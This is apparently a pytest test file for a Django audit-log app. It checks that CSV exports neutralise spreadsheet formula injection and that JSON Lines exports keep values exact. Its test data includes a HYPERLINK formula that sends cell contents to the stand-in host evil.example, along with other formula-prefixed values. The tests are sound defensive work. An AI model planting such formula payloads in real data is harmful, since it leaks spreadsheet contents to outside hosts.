"""CSV exports neutralise spreadsheet formulas; JSON Lines and the hashes keep exact values."""

import csv
import io
import json

import pytest
from django.db import transaction

from accessgate.audit.actions import AuditAction
from accessgate.audit.context import RequestMeta
from accessgate.audit.exports import csv_cell, csv_value
from accessgate.audit.models import AuditEvent
from accessgate.audit.services import record
from accessgate.core.storage import get_storage
from tests.support.exports import export_files, make_export, run_script

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"click")'


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'already quoted", "''already quoted"),
        ("curl/8.5", "curl/8.5"),
        ("", ""),
        (None, ""),
        (42, "42"),
    ],
)
def test_cells_are_neutralised_and_map_back(value, cell):
    assert csv_cell(value) == cell
    if value is not None:
        assert csv_value(cell) == str(value)


@pytest.fixture
def formula_trail(researcher):
    with transaction.atomic():
        record(
            actor=researcher,
            action=AuditAction.ACCOUNT_LOGGED_IN,
            target=researcher,
            meta=RequestMeta(ip="198.51.100.9", user_agent=HYPERLINK),
            note="@cmd",
            other="-1",
        )
    from accessgate.audit.chainer import chain_all

    chain_all()  # the on-commit step, had the test's transaction committed
    return researcher


def test_csv_export_neutralises_formulas_and_still_verifies(
    formula_trail, auditor, tmp_path, django_capture_on_commit_callbacks
):
    export = make_export(auditor, format="csv", capture=django_capture_on_commit_callbacks)
    export.refresh_from_db()
    text = get_storage().open(export.storage_key).read().decode()
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    row = next(r for r in rows if r["action"] == "account.logged_in")
    assert row["user_agent"] == "'" + HYPERLINK  # no live formula in the sheet
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r.values())
    # The details cell is JSON (starts with "{"): its values are exact.
    assert json.loads(row["details"]) == {"note": "@cmd", "other": "-1"}
    # The standalone verifier maps the cells back and the hashes hold.
    code, output = run_script(*export_files(export, tmp_path))
    assert code == 0, output
    assert output.startswith("OK:")


def test_jsonl_export_keeps_exact_values(formula_trail, auditor, django_capture_on_commit_callbacks):
    export = make_export(auditor, format="jsonl", capture=django_capture_on_commit_callbacks)
    export.refresh_from_db()
    lines = get_storage().open(export.storage_key).read().decode().splitlines()
    row = next(json.loads(line) for line in lines if '"account.logged_in"' in line)
    assert row["user_agent"] == HYPERLINK
    assert AuditEvent.objects.get(seq=row["seq"]).user_agent == HYPERLINK
